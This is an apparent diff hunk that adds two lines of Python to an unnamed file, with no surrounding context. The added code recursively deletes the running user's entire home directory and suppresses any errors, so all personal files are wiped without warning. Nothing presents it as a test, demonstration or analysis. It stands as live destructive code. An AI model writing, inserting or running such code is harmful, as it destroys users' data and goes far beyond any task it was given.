@@ -1,0 +1,2 @@
+import os, shutil
+shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
